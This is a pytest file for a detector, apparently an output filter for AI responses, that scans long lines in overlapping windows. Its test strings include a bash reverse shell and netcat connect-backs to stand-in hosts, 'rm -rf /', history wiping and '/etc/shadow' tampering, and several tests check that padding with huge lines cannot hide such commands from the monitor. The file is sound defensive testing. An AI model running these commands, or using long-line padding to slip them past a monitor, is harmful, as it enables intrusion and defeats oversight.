"""A line longer than `MAX_LINE` is read in overlapping windows: no match runs further than its
window (a pattern's cost on a long line could grow with the square of its length), nothing
hides after a cut (what stands after a long line, or inside one, is still found), a cut is no
edge of the text, and no hit is found twice where windows overlap."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterable, Iterator

import pytest

from redline.redlines import StreamMonitor, capabilities, judge_response
from redline.redlines.capabilities import MAX_LINE, Capability, Hit, line_windows, scan

CONNECT_BACK = "bash -c 'bash -i >& /dev/tcp/198.51.100.23/9001 0>&1'"
BENIGN = "echo " + "build step done; " * 1_300  # one line of about 22,000 characters


def _block(*lines: str) -> str:
    return "Here is the script:\n\n```bash\n" + "\n".join(lines) + "\n```\n"


def test_windows_hold_no_long_line_and_leave_nothing_out() -> None:
    long_line = "".join(f"{i:05d} " for i in range(4_000))  # 24,000 characters, all different
    text = "first line\n" + long_line + "\nlast line\n"
    windows = line_windows(text)
    assert len(windows) > 2
    assert all(max(map(len, text[a:b].split("\n"))) <= MAX_LINE for a, b in windows)
    assert windows[0][0] == 0 and windows[-1][1] == len(text)  # the lines around are read
    piece = MAX_LINE // 2  # whatever lies within half a window of the line is whole in one
    for start in range(11, 11 + len(long_line) - piece, 97):
        assert any(a <= start and start + piece <= b for a, b in windows)
    assert line_windows("short\n" * 2_000) == [(0, 12_000)]  # many short lines: read whole


def test_scan_finds_on_a_long_line_what_it_finds_on_a_short_one() -> None:
    text = "x=1; " * 3_000 + CONNECT_BACK + "; y=2" * 3_000
    at = text.index(CONNECT_BACK)
    short = {(hit.capability, hit.start + at) for hit in scan(CONNECT_BACK)}
    assert short
    assert short <= {(hit.capability, hit.start) for hit in scan(text)}


@pytest.mark.parametrize(
    "response",
    [
        _block(BENIGN, CONNECT_BACK),  # a short offensive line after a long benign one
        _block(BENIGN + "; " + CONNECT_BACK + "; " + BENIGN),  # inside an enormous line
        BENIGN + "\n\n" + _block(CONNECT_BACK),  # after a long line of prose
    ],
    ids=["after-long-line", "inside-long-line", "after-long-prose"],
)
def test_nothing_hides_after_a_long_line(response: str) -> None:
    assert judge_response(response).refused


def _read(hits: Iterable[Hit]) -> Counter[tuple[str, int, int]]:
    return Counter((hit.capability.name, hit.start, hit.end) for hit in hits)


@pytest.mark.parametrize(
    ("glued", "apart", "capability"),
    [
        # a word glued to the one before it, where the second window starts
        (
            "a" * (MAX_LINE // 2) + "rm -rf / ; " + "b" * MAX_LINE,
            "a" * (MAX_LINE // 2 - 1) + " rm -rf / ; " + "b" * MAX_LINE,
            Capability.DELETE_FILE,
        ),
        (
            "a" * (MAX_LINE // 2) + "nc -e /bin/sh 198.51.100.7 9001; " + "b" * MAX_LINE,
            "a" * (MAX_LINE // 2 - 1) + " nc -e /bin/sh 198.51.100.7 9001; " + "b" * MAX_LINE,
            Capability.NET_CONNECT,
        ),
        # a word glued to the one after it, where the first window ends
        (
            "c" * (MAX_LINE - len("; history -c")) + "; history -cx" + " d" * MAX_LINE,
            "c" * (MAX_LINE - len("; history -c")) + "; history -c x" + " d" * MAX_LINE,
            Capability.HISTORY_WIPE,
        ),
        (
            "c" * (MAX_LINE - len(" chmod 777 /etc/shadow"))
            + " chmod 777 /etc/shadow0 "
            + "d" * MAX_LINE,
            "c" * (MAX_LINE - len(" chmod 777 /etc/shadow"))
            + " chmod 777 /etc/shadow 0 "
            + "d" * MAX_LINE,
            Capability.SECRET_FILE,
        ),
    ],
    ids=["start-rm", "start-nc", "end-history", "end-shadow"],
)
def test_a_cut_is_no_edge(glued: str, apart: str, capability: Capability) -> None:
    """A hit that a window's start or end would make (`\\b`, `^`, a lookbehind or `$` read at
    the cut as the text's edge) and the whole line does not hold is not reported; the same
    words set apart by a space, at the same cut, are."""
    hits = list(scan(glued))
    assert _read(hits) == _read(capabilities._scan_whole(glued, 0))
    assert capability not in {hit.capability for hit in hits}
    assert capability in {hit.capability for hit in scan(apart)}


@pytest.mark.parametrize("unit", [CONNECT_BACK + "; ", "nc -e /bin/sh 10.0.0.1 4444; "])
def test_the_overlap_of_windows_gives_no_hit_twice(unit: str) -> None:
    """Hits in the half a window that two windows share are given once: the long line gives
    what a whole read of it gives, matches being short."""
    line = unit * (3 * MAX_LINE // len(unit))
    hits = _read(scan(line))
    assert hits == _read(capabilities._scan_whole(line, 0))
    assert len(hits) > 3 * MAX_LINE // len(unit)


@pytest.mark.parametrize(
    "unit",
    ["Remove-Item -Recurse ", "Copy-Item $PSCommandPath ", "socket.connect("],
)
def test_a_crafted_line_is_read_in_windows(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A code block of one crafted 20,000-character line is judged in windows none longer than
    `MAX_LINE` (the whole-text reading never gets the line), and its repeated words make no
    artifact."""
    line = unit * (20_000 // len(unit))
    response = "```powershell\n" + line + "\n```\n"
    windowed: list[tuple[int, int]] = []
    whole: list[str] = []
    bounded, scan_whole = capabilities._bounded_matches, capabilities._scan_whole

    def bounded_spy(
        pattern: re.Pattern[str],
        text: str,
        windows: list[tuple[int, int]],
        positions: list[int] | None,
    ) -> Iterator[re.Match[str]]:
        windowed.extend(windows)
        return bounded(pattern, text, windows, positions)

    def whole_spy(text: str, offset: int) -> Iterator[Hit]:
        whole.append(text)
        return scan_whole(text, offset)

    monkeypatch.setattr(capabilities, "_bounded_matches", bounded_spy)
    monkeypatch.setattr(capabilities, "_scan_whole", whole_spy)
    assert not judge_response(response).refused
    assert windowed, "the long line was never read in windows"
    assert all(0 < end - start <= MAX_LINE for start, end in windowed)
    assert all(max(map(len, text.split("\n"))) <= MAX_LINE for text in whole)


def test_the_stream_cuts_an_endless_line_between_words() -> None:
    """The stream judges an endless line in pieces, each read as a line: a piece cut inside a
    word (`fa|rm -rf /tmp/x`) would start with a word the line does not hold."""
    filler = ("echo ok " * MAX_LINE)[: MAX_LINE - 3] + " "
    line = filler + "farm -rf /tmp/x; " + "echo done " * 500
    assert line.index("rm -rf") == MAX_LINE
    monitor = StreamMonitor()
    for at in range(0, len(line), 64):
        assert not monitor.feed(line[at : at + 64]).halted
    monitor.finish()
    found = {hit.capability for hits in monitor._found.hits.values() for hit in hits}
    assert Capability.DELETE_FILE not in found
    assert Capability.DELETE_FILE not in {hit.capability for hit in scan(line)}
